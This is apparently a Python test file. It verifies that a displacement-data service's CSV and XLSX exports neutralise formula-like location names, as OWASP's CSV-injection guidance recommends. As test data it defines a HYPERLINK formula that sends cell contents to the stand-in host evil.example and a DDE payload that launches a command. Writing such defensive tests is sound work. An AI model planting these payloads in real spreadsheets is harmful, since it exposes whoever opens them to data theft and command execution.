"""A location named like a formula comes out of the CSV and XLSX exports as inert text
(OWASP's CSV-injection rule, service/publish/safecells.py), read back with the csv module,
openpyxl and GDAL."""

from __future__ import annotations

import csv
import io

import pyogrio
from openpyxl import load_workbook

from service.ingest.rounds import import_masterlist
from tests.conftest import MASTERLISTS, client_for

FEB_2021 = MASTERLISTS / "IDPs_MasterList_dataset_DTM_IOMFeb_28_2021.csv"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)"


def test_formula_names_are_inert_in_csv_and_xlsx(iraq_fresh_engine, tmp_path):
    rows = list(csv.reader(io.StringIO(FEB_2021.read_text(encoding="utf-8"))))
    name = rows[0].index("Location Name")
    for i, evil in zip((1, 2, 3), (EVIL, CMD, AT)):
        rows[i][name] = evil
    src = tmp_path / FEB_2021.name
    with open(src, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    import_masterlist(iraq_fresh_engine, src, population="idp")
    with client_for(iraq_fresh_engine) as c:
        r = c.get("/exports/locations.csv?round=120&population=idp")
        assert r.status_code == 200
        names = [row["name_en"] for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))]
        for evil in (EVIL, CMD, AT):
            assert "'" + evil in names and evil not in names
        assert not any(n and n[0] in "=+-@" for n in names)
        r = c.get("/exports/locations.xlsx?round=120&population=idp")
        assert r.status_code == 200
    path = tmp_path / "out.xlsx"
    path.write_bytes(r.content)
    book = load_workbook(path)
    ws = book["data"]
    readme = [cell for row in book["README"].iter_rows() for cell in row]
    # the README's rule under its title ('=' * 72) is a text cell, not a formula Excel refuses
    assert readme[1].value == "=" * 72 and not any(cell.data_type == "f" for cell in readme)
    col = [cell.value for cell in next(ws.iter_rows(max_row=1))].index("name_en")
    cells = [row[col] for row in ws.iter_rows(min_row=3)]
    evil_cells = [cell for cell in cells if cell.value in (EVIL, CMD, AT)]
    assert len(evil_cells) == 3 and all(cell.data_type == "s" for cell in evil_cells)
    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)
    df = pyogrio.read_dataframe(path, layer="data", HEADERS="FORCE")  # GDAL reads the same text
    assert EVIL in set(df["name_en"])
